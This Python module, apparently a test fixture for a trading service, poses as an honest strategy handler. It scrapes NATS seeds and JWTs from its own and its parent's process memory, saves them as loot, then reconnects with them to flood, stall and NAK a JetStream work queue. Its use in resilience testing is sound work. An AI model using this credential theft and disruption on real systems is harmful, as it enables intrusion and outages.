"""A handler that is an attacker: it takes its agent's credentials out of memory and waits to be told.

Beside that it works as the ordinary strategy does, so that nothing shows until the attack begins. In
``HIJACK_DIR`` it writes what it took, ``loot-<agent>-<pid>``; the test writes ``<agent>``: the attack's name.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import itertools
import json
import os
import re
import threading
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import nkeys
from nats.aio.client import Client, RawCredentials
from nats.aio.msg import Msg

from squall.services.trading.strategies import decide as honest

PULL = "$JS.API.CONSUMER.MSG.NEXT.SQUALL_WK.pool"

_begun = threading.Lock()


async def decide(task: Any) -> Any:
    if _begun.acquire(blocking=False):
        threading.Thread(target=_hijack, daemon=True).start()
    return await honest(task)


def _hijack() -> None:
    folder = Path(os.environ["HIJACK_DIR"])
    while True:
        loot = _loot()
        if loot is not None:
            break
        threading.Event().wait(0.2)
    beside = folder / f".{loot['name']}.{os.getpid()}"
    beside.write_text(json.dumps(loot))
    beside.rename(folder / f"loot-{loot['name']}-{os.getpid()}")
    order = folder / loot["name"]
    while not order.exists():
        threading.Event().wait(0.1)
    asyncio.run(_attack(loot, ATTACKS[order.read_text()]))


def _loot() -> dict[str, str] | None:
    """Seed, token and address, wherever in this process or its parent they are."""
    for pid in ("self", str(os.getppid())):
        memory = b"\n".join(_memory(Path("/proc") / pid))
        seeds = {seed.decode() for seed in re.findall(rb"SU[A-Z2-7]{56}", memory)}
        urls = re.findall(rb"nats://127\.0\.0\.1:\d+", memory)
        for token in set(re.findall(rb"eyJ[\w-]{20,60}\.[\w-]{100,2000}\.[\w-]{80,90}", memory)):
            with contextlib.suppress(ValueError):
                claims = json.loads(base64.urlsafe_b64decode(token.split(b".")[1] + b"=="))
                for seed in seeds:
                    key = nkeys.from_seed(bytearray(seed.encode())).public_key.decode()
                    if key == claims["sub"] and urls:
                        return {
                            "name": claims["name"],
                            "jwt": token.decode(),
                            "seed": seed,
                            "url": urls[0].decode(),
                        }
    return None


def _memory(process: Path) -> list[bytes]:
    found = []
    with (process / "maps").open() as maps, (process / "mem").open("rb", 0) as memory:
        for line in maps:
            span, rights, *_ = line.split()
            begin, end = (int(part, 16) for part in span.split("-"))
            if rights.startswith("rw"):
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(begin)
                    found.append(memory.read(end - begin))
    return found


async def ignore(error: Exception) -> None:
    del error


def credentials(loot: dict[str, str]) -> RawCredentials:
    return RawCredentials(
        f"-----BEGIN NATS USER JWT-----\n{loot['jwt']}\n------END NATS USER JWT------\n\n"
        f"-----BEGIN USER NKEY SEED-----\n{loot['seed']}\n------END USER NKEY SEED------\n"
    )


async def _attack(loot: dict[str, str], attack: Callable[[Client, str], Awaitable[None]]) -> None:
    client = Client()
    inbox = f"_INBOX.{loot['name']}.evil{os.getpid()}"
    await client.connect(
        loot["url"], user_credentials=credentials(loot), inbox_prefix=inbox, error_cb=ignore, name="evil"
    )
    await attack(client, loot["name"])


async def _pull(client: Client, answer: Callable[[Msg], Awaitable[None]], times: int = 8) -> None:
    """Ask for as much as there is, over and over, and answer all of it in one way."""
    inbox = f"{client._inbox_prefix.decode()}.p"

    async def take(message: Msg) -> None:
        if message.reply:
            await answer(message)

    await client.subscribe(inbox, cb=take)
    while True:
        for _ in range(times):
            await client.publish(PULL, b'{"batch": 4, "expires": 1000000000}', reply=inbox)
        await asyncio.sleep(0.25)


async def hold(client: Client, name: str) -> None:
    held: list[str] = []

    async def keep(message: Msg) -> None:
        held.append(message.reply)

    async def signs() -> None:
        while True:
            for reply in list(held):
                await client.publish(reply, b"+WPI")
            await asyncio.sleep(0.5)

    await asyncio.gather(signs(), _pull(client, keep))


async def nak(client: Client, name: str) -> None:
    await _pull(client, lambda message: client.publish(message.reply, b"-NAK"))


async def put_off(client: Client, name: str) -> None:
    await _pull(client, lambda message: client.publish(message.reply, b'-NAK {"delay": 3600000000000}'))


async def silent(client: Client, name: str) -> None:
    async def nothing(message: Msg) -> None:
        del message

    await _pull(client, nothing)


async def flood(client: Client, name: str) -> None:
    while True:
        for _ in range(500):
            await client.publish(f"sw.squall.hb.agent.{name}", b"{}")
        await client.flush()


async def fill(client: Client, name: str) -> None:
    """Registers of tasks that there are not, each of them large, at a gentle rate."""
    for number in itertools.count():
        await client.publish(f"sw.squall.res.0.{name}-{number}", b"x" * 20_000)
        if number % 20 == 0:
            await asyncio.sleep(0.1)


ATTACKS = {
    "hold": hold,
    "nak": nak,
    "put-off": put_off,
    "silent": silent,
    "flood": flood,
    "fill": fill,
}
